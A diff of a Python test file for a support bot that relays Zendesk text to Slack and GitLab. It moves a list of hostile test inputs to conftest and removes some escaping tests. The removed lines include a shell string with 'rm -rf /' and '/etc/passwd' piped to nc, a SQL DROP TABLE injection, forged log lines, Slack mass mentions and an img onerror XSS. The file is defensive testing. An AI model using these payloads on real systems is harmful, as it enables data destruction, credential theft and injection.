@@ -1,5 +1,5 @@
-"""Zendesk text is untrusted: stored intact (parameterised SQL), neutralised for Slack and GitLab, kept out of logs;
-secrets never show in error bodies, logs or the audit trail."""
+"""Zendesk text is untrusted: stored intact (parameterised SQL) and kept out of logs; secrets never show in error
+bodies, logs or the audit trail. How that text is neutralised for Slack and GitLab: unit/test_escaping.py."""
 from __future__ import annotations
 
 import json
@@ -12,19 +12,9 @@ import sqlalchemy as sa
 from bot.db import inbox
 from bot.web.app import create_app
 from bot.db.engine import make_engine
-from bot.case.messages import md
-from bot.case.messages import slack_escape
-from conftest import SECRETS, gitlab_headers, slack_body_and_headers, zendesk_event, zendesk_headers
+from tests.conftest import HOSTILE, gitlab_headers, slack_body_and_headers, zendesk_event, zendesk_headers
+from tests.conftest import HOSTILE_NAMES as NAMES
 
-HOSTILE = [
-    "$(rm -rf /) `id` ; cat /etc/passwd | nc evil 1 && echo $HOME > /tmp/x",
-    "Robert'); DROP TABLE inbox; -- \" OR 1=1 --",
-    "line one\nERROR bot: forged log line\r\n\x1b[2J\x1b[31mred\x1b[0m",
-    "<!channel> <!here> <@U123> <#C999|general> <http://evil.example|click here> *bold* &amp;",
-    "| broken | table |\n<img src=x onerror=alert(1)> @all @someone #1 !2 ~\"offering-migration::approved\"",
-    "\u202eevil\u202c \u200b zero-width, NUL-free unicode: héllo wörld 日本語 🚀",
-]
-NAMES = ["shell", "sql", "log", "slack", "markdown", "unicode"]
 CONTROL = re.compile(r"[\x00-\x1f\x7f\u202a-\u202e]")
 
 
@@ -44,32 +34,6 @@ def test_hostile_comment_is_stored_byte_for_byte(client, engine, text):
     assert stored["payload"] == json.loads(body)
     with engine.connect() as conn:  # the table survived the quote-laden text
         assert conn.execute(sa.text("SELECT count(*) FROM inbox")).scalar_one() == 1
-
-
-@pytest.mark.parametrize("text", HOSTILE, ids=NAMES)
-def test_slack_escape_leaves_no_markup(text):
-    out = slack_escape(text)
-    assert "<" not in out and ">" not in out
-    # Every & is now the start of one of the three entities Slack knows, so none of the input's entities survive.
-    assert re.fullmatch(r"(?:[^&]|&amp;|&lt;|&gt;)*", out, flags=re.S)
-    unescaped = out.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
-    assert unescaped == text  # nothing lost: the reader sees exactly what the customer wrote
-
-
-@pytest.mark.parametrize("text", HOSTILE, ids=NAMES)
-def test_md_keeps_text_inside_its_table_cell(text):
-    out = md(text)
-    assert "\n" not in out and "\r" not in out, "a line break would end the table row or start a quick action"
-    assert "<" not in out, "HTML from a customer must not render"
-    assert re.search(r"(?<!\\)\|", out) is None, "an unescaped pipe would open a new table column"
-    assert re.search(r"@(?!\u200b)", out) is None, "a bare @ would mention a GitLab user"
-
-
-@pytest.mark.parametrize("ref", ["#1", "!2", "~offering-migration::approved", "%\"v1\"", "$3"])
-def test_md_neutralises_gitlab_references(ref):
-    """md() promises 'no mentions or references'; a bare #1 links (and notifies) another issue."""
-    out = md(f"see {ref} please")
-    assert ref not in out
 
 
 def test_zendesk_id_with_line_breaks_never_becomes_a_log_line(client, engine):
